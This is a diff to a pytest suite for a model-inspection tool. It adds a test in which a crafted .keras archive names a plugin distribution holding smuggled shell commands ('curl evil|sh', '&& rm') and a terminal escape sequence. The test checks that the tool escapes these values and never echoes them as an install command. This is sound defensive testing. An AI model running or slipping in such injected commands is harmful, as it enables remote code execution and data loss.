@@ -104,12 +104,17 @@ def scale_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 def _rewrite(source: Path, target: Path, edit: Callable[[dict, dict], None]) -> Path:
-    """Copy a .keras archive, letting ``edit(config, metadata)`` change its JSON in place."""
+    """Copy a .keras archive, letting ``edit(config, metadata)`` change its JSON in place.
+
+    The manifest (the archive's comment) is handed to ``edit`` as ``metadata["layerhub"]``.
+    """
     with zipfile.ZipFile(source) as old:
         config = json.loads(old.read("config.json"))
         metadata = json.loads(old.read("metadata.json"))
+        metadata["layerhub"] = json.loads(old.comment.partition(b":")[2])
         edit(config, metadata)
         with zipfile.ZipFile(target, "w") as new:
+            new.comment = b"layerhub-manifest:" + json.dumps(metadata.pop("layerhub")).encode()
             for info in old.infolist():
                 if info.filename == "config.json":
                     new.writestr(info, json.dumps(config))
@@ -299,6 +304,27 @@ def test_inspect_a_model_needing_a_missing_plugin(
     row = next(line for line in result.stdout.splitlines() if line.startswith("layerhub_nothere>"))
     assert row.split() == ["layerhub_nothere>Foo", "-", "layerhub-nothere", "0.3.0", "-", "missing"]
     assert "install them with: pip install layerhub-nothere==0.3.0" in result.stdout
+
+
+def _claims_a_hostile_distribution(config: dict, metadata: dict) -> None:
+    _needs_missing_plugin(config, metadata)
+    metadata["layerhub"]["objects"] = {
+        "layerhub_nothere>Foo": {"distribution": "x; curl evil|sh\n\x1b[2J", "version": "1 && rm"}
+    }
+
+
+def test_inspect_never_prints_a_file_chosen_command(
+    run: Run, scale_model: Path, tmp_path: Path
+) -> None:
+    hostile = _rewrite(scale_model, tmp_path / "hostile.keras", _claims_a_hostile_distribution)
+    result = run("inspect", hostile)
+    assert result.returncode == 1, result.stderr
+    assert "pip install" not in result.stdout
+    assert "curl evil|sh\\n\\x1b[2J" in result.stdout  # shown escaped, on one line
+    assert "\x1b" not in result.stdout
+    assert "the conventional distribution is layerhub-nothere; check before installing" in (
+        result.stdout
+    )
 
 
 @pytest.mark.slow
